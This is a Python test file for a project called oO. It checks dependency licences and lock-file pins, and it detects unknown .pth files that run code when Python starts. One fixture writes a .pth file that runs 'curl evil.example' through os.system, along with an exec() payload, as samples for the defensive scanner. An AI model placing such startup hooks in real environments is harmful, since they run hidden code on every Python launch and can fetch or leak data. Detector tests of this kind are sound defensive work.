"""Every package that oO needs may be passed on, and nothing unknown runs at the start of Python."""

from __future__ import annotations

import importlib.util
import re
import sysconfig
import tomllib
from pathlib import Path
from types import ModuleType

import pytest
from packaging.requirements import Requirement

from tests.rows import each_of

ROOT = Path(__file__).parents[2]


def loaded() -> ModuleType:
    """``infra/packages.py``, which is no part of a package."""
    spec = importlib.util.spec_from_file_location("packages", ROOT / "infra" / "packages.py")
    assert spec is not None
    assert spec.loader is not None
    module = importlib.util.module_from_spec(spec)
    spec.loader.exec_module(module)
    return module


PACKAGES = loaded()


def test_every_package_of_the_lock_file_has_a_licence_under_which_oo_may_be_passed_on(
    capsys: pytest.CaptureFixture[str],
) -> None:
    assert PACKAGES.main() == 0
    shown = capsys.readouterr().out.splitlines()
    assert len(shown) == len(PACKAGES.pinned((ROOT / "requirements.lock").read_text())) > 90
    elsewhere = {line.split()[0] for line in shown if line.endswith("(not for this platform)")}
    assert elsewhere <= {"colorama", "httpx2-jsfetch", "pywin32", "uvloop", "tzlocal"}


def test_what_is_locked_is_what_the_package_asks_for() -> None:
    """Who installs oO's wheel gets the versions that are tested here."""
    project = tomllib.loads((ROOT / "pyproject.toml").read_text())["project"]
    pinned = dict(re.findall(r"^([\w.-]+)==([^ ]+)", (ROOT / "requirements.lock").read_text(), re.MULTILINE))
    asked = [Requirement(one) for one in project["dependencies"]]
    assert [str(one) for one in asked if not one.specifier.contains(pinned[one.name.lower()])] == []


@each_of(
    [
        ("MIT", True),
        ("Apache-2.0 AND MIT", True),
        ("GPL-3.0-only OR MIT", True),
        ("MPL-2.0 AND (Apache-2.0 OR MIT)", True),
        ("GPL-3.0-only", False),
        ("GPL-3.0-only AND (Apache-2.0 OR MIT)", False),
        ("GNU General Public License (GPL)", False),
        ("MIT AND GPL-3.0-only", False),
        ("AGPL-3.0-only AND MIT OR SSPL-1.0", False),
        ("LicenseRef-Proprietary", False),
        ("", False),
    ]
)
def test_a_licence_is_allowed_if_all_its_parts_are(expression: str, allowed: bool) -> None:
    assert PACKAGES.is_allowed(expression) is allowed


def test_nothing_unknown_runs_at_the_start_of_python() -> None:
    assert PACKAGES.unknown_pth_files(Path(sysconfig.get_path("purelib"))) == []


def test_a_pth_file_that_is_new_or_changed_is_found(tmp_path: Path) -> None:
    (tmp_path / "litellm_init.pth").write_text("import os; os.system('curl evil.example')")
    (tmp_path / "a1_coverage.pth").write_text("import sys; exec('import os\\nprint(1)')")
    (tmp_path / "_virtualenv.pth").write_text("import _virtualenv")
    (tmp_path / "distutils-precedence.pth").write_text("import _virtualenv\nimport os")

    assert PACKAGES.unknown_pth_files(tmp_path) == [
        "a1_coverage.pth",
        "distutils-precedence.pth",
        "litellm_init.pth",
    ]
